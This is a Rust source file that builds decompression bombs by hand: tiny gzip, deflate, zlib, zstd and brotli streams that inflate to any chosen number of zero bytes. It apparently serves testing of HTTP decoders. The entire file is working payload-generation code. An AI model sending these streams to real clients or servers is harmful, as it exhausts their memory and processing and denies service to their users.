//! Decompression bombs: a few kilobytes on the wire that stand for any number of zero bytes, in each
//! encoding that HTTP knows. Written by hand from the formats' specifications, as no encoder would.

use flate2::{Compress, Compression, Crc, FlushCompress};
use std::io::{self, Write};

/// Zeros that are deflated once and then repeated.
const PIECE: u64 = 1 << 20;

/// The bytes of a gzip stream.
pub fn gzip_bomb(size: u64) -> Vec<u8> {
    let mut bytes = Vec::new();
    write_gzip_bomb(&mut bytes, size).expect("a Vec takes all");
    bytes
}

/// A gzip stream (RFC 1952), made while it is sent.
pub(super) fn write_gzip_bomb(out: &mut impl Write, size: u64) -> io::Result<()> {
    out.write_all(&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff])?;
    let (piece, piece_crc) = deflated_zeros(PIECE);
    let mut crc = Crc::new();
    for _ in 0..size / PIECE {
        out.write_all(&piece)?;
        crc.combine(&piece_crc);
    }
    let (rest, rest_crc) = deflated_zeros(size % PIECE);
    out.write_all(&rest)?;
    crc.combine(&rest_crc);
    // An empty last block, then the sum and the size.
    out.write_all(&[3, 0])?;
    out.write_all(&crc.sum().to_le_bytes())?;
    out.write_all(&(size as u32).to_le_bytes())
}

/// A raw deflate stream (RFC 1951), as some servers mean `deflate`.
pub fn deflate_bomb(size: u64) -> Vec<u8> {
    let mut bytes = deflated_zeros(PIECE).0.repeat(usize::try_from(size / PIECE).expect("it fits"));
    bytes.extend(deflated_zeros(size % PIECE).0);
    bytes.extend([3, 0]);
    bytes
}

/// A zlib stream (RFC 1950), as the specification means `deflate`.
pub fn zlib_bomb(size: u64) -> Vec<u8> {
    // Adler-32 of zeros: the first sum stays 1, the second counts them.
    let adler = u32::try_from(size % 65_521).expect("it is small") << 16 | 1;
    [&[0x78, 0x9c], deflate_bomb(size).as_slice(), &adler.to_be_bytes()].concat()
}

/// A zstd stream (RFC 8878): blocks of one byte and how often it stands there.
pub fn zstd_bomb(size: u64) -> Vec<u8> {
    const BLOCK: u64 = 128 << 10;
    const WINDOW_OF_128_KIB: u8 = 7 << 3;
    let mut bytes = vec![0x28, 0xb5, 0x2f, 0xfd, 0, WINDOW_OF_128_KIB];
    let mut left = size;
    while left > 0 {
        let now = left.min(BLOCK);
        left -= now;
        let header = u32::try_from(now).expect("a block is small") << 3 | 1 << 1 | u32::from(left == 0);
        bytes.extend(&header.to_le_bytes()[..3]);
        bytes.push(0);
    }
    bytes
}

/// A brotli stream (RFC 7932): meta-blocks of four zeros and one copy of them that fills 16 MiB.
/// `size` is a multiple of 16 MiB, or rests at 3 KiB at least.
pub fn brotli_bomb(size: u64) -> Vec<u8> {
    let mut bits = Bits::default();
    // A window of 64 KiB.
    bits.put(0, 1);
    let mut left = size;
    while left > 0 {
        let now = left.min(1 << 24);
        left -= now;
        meta_block(&mut bits, u32::try_from(now).expect("16 MiB at most"));
    }
    // The last meta-block, empty.
    bits.put(0b11, 2);
    bits.bytes
}

fn meta_block(bits: &mut Bits, length: u32) {
    let nibbles = if length > 1 << 20 { 6 } else { 5 };
    // Not the last one; its length; compressed.
    bits.put(0, 1);
    bits.put(nibbles - 4, 2);
    bits.put(length - 1, nibbles * 4);
    bits.put(0, 1);
    // One type of each block, no direct distances, one context mode, one tree of each kind.
    bits.put(0, 3 + 6 + 2 + 2);
    // Codes of a single symbol, which then takes no bit: the literal 0; "insert 4 literals, then copy
    // 2,118 bytes and as many more as the next 24 bits say"; "at the last distance", which is 4.
    for (symbol, width) in [(0, 8), (384 + (4 << 3) + 7, 10), (0, 6)] {
        bits.put(1, 2);
        bits.put(0, 2);
        bits.put(symbol, width);
    }
    bits.put(length - 4 - 2118, 24);
}

/// Bits, the lowest first.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    used: u32,
}

impl Bits {
    fn put(&mut self, value: u32, width: u32) {
        for bit in 0..width {
            if self.used.is_multiple_of(8) {
                self.bytes.push(0);
            }
            if let Some(last) = self.bytes.last_mut() {
                *last |= u8::from(value >> bit & 1 == 1) << (self.used % 8);
            }
            self.used += 1;
        }
    }
}

/// So many zeros, deflated to whole bytes that may be repeated, and their sum.
fn deflated_zeros(count: u64) -> (Vec<u8>, Crc) {
    let zeros = vec![0; usize::try_from(count).expect("a piece is small")];
    let mut piece = Vec::with_capacity(zeros.len() / 100 + 100);
    Compress::new(Compression::best(), false).compress_vec(&zeros, &mut piece, FlushCompress::Full).expect("zeros can be deflated");
    let mut crc = Crc::new();
    crc.update(&zeros);
    (piece, crc)
}
